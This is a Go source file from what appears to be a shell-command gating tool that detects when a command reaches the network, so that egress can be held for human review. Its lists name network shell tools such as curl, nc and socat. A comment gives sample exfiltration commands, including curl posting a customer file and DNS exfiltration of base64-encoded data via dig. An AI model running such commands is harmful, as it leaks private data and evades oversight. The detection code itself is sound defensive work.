package shell

import "strings"

// Programs that open network connections set ssh.network as bash's
// /dev/tcp does: a rule that holds egress for a human (after the run read
// personal data, say) must see curl -d @customers.csv, a DNS lookup of a
// name built from what was read (dig $(base64 -w0 f).example.com, also
// getent hosts), mail, a package published, or a git push. The list is of
// known clients; a program it does not name may reach the network too,
// and is not read-only either.

// networkClients always open a connection (or resolve a name through
// DNS, which carries the name to a server).
var networkClients = setOf(`curl wget nc ncat netcat socat telnet ftp lftp tftp sftp scp ssh ping ping6
	traceroute traceroute6 tracepath mtr dig host nslookup drill delv whois arping nmap aria2c http https xh
	httpie grpcurl websocat ldapsearch ldapmodify smbclient mail mailx mutt sendmail msmtp ssmtp swaks
	nsupdate ntpdate rdate kubectl helm aws gcloud gsutil az doctl s3cmd rclone vault consul nomad
	docker podman skopeo crane gh glab hub`)

// networkSubcommands are the subcommands of package managers and
// version control that fetch or send.
var networkSubcommands = map[string]map[string]bool{
	"git": setOf(`clone fetch pull push ls-remote send-email fetch-pack send-pack request-pull
		http-fetch http-push remote-http remote-https`),
	"pip":     setOf(`install download wheel index search`),
	"pip3":    setOf(`install download wheel index search`),
	"uv":      setOf(`pip add sync lock tool python`),
	"npm":     setOf(`install i ci add publish unpublish view info show search login adduser update upgrade outdated audit exec x deprecate dist-tag owner access token`),
	"yarn":    setOf(`install add publish info npm dlx upgrade up why login`),
	"pnpm":    setOf(`install i add publish update up dlx outdated audit`),
	"gem":     setOf(`install fetch push search update query sources`),
	"cargo":   setOf(`install fetch publish search update login add owner yank`),
	"go":      setOf(`get install mod`),
	"apt":     setOf(`install update upgrade full-upgrade download source`),
	"apt-get": setOf(`install update upgrade dist-upgrade download source build-dep`),
	"yum":     setOf(`install update upgrade download makecache search`),
	"dnf":     setOf(`install update upgrade download makecache search`),
	"apk":     setOf(`add update upgrade fetch search`),
	"brew":    setOf(`install update upgrade fetch search tap`),
	"conda":   setOf(`install create update search`),
}

// dbClients connect to a database server: a network one when a host or
// a connection URI is named.
var dbClients = setOf(`psql mysql mariadb mongo mongosh redis-cli sqlcmd clickhouse-client cqlsh pg_dump pg_dumpall mysqldump`)

// reachesNetwork reports whether the program prog, run with args, opens
// a network connection.
func reachesNetwork(prog string, args []string) bool {
	switch {
	case prog == "scp":
		// scp -t and -f are the far end of a copy: they talk on the
		// channel the gateway judged, not to the network.
		return !anyArg(args, func(a string) bool { return isShortCluster(a) && strings.ContainsAny(a[1:], "tf") })
	case networkClients[prog]:
		return true
	case prog == "npx":
		return true
	case prog == "git":
		return gitReachesNetwork(args)
	case prog == "rsync":
		return anyArg(args, func(a string) bool { return strings.Contains(a, ":") })
	case prog == "getent":
		ops := operands(args)
		return len(ops) > 0 && setOf(`hosts ahosts ahostsv4 ahostsv6 networks`)[ops[0]]
	case prog == "openssl":
		return len(args) > 0 && (args[0] == "s_client" || args[0] == "s_time" || args[0] == "ocsp")
	case prog == "logger":
		return anyArg(args, func(a string) bool {
			return a == "-n" || strings.HasPrefix(a, "--server") || strings.HasPrefix(a, "-n")
		})
	case dbClients[prog]:
		return anyArg(args, func(a string) bool {
			return strings.HasPrefix(a, "-h") || strings.HasPrefix(a, "--host") ||
				strings.Contains(a, "://") || strings.Contains(a, "host=")
		})
	}
	subs, ok := networkSubcommands[prog]
	if !ok {
		return false
	}
	// Any operand: an option's value may come first (npm --prefix d
	// install).
	return anyArg(operands(args), func(a string) bool { return subs[a] })
}

// gitReachesNetwork reports whether a git command fetches or sends:
// clone, fetch, push and their kin, archive --remote, remote update and
// show (which asks the remote), submodule update.
func gitReachesNetwork(args []string) bool {
	i := gitSubIndex(args)
	if i >= len(args) {
		return false
	}
	sub, rest := args[i], args[i+1:]
	switch sub {
	case "archive":
		return anyArg(rest, func(a string) bool { return strings.HasPrefix(a, "--remote") })
	case "remote":
		ops := operands(rest)
		return len(ops) > 0 && (ops[0] == "update" || ops[0] == "show" || ops[0] == "prune" || ops[0] == "set-head")
	case "submodule":
		ops := operands(rest)
		return len(ops) > 0 && (ops[0] == "update" || ops[0] == "sync" || ops[0] == "add")
	}
	return networkSubcommands["git"][sub]
}

// anyArg reports whether f holds for any of args.
func anyArg(args []string, f func(string) bool) bool {
	for _, a := range args {
		if f(a) {
			return true
		}
	}
	return false
}
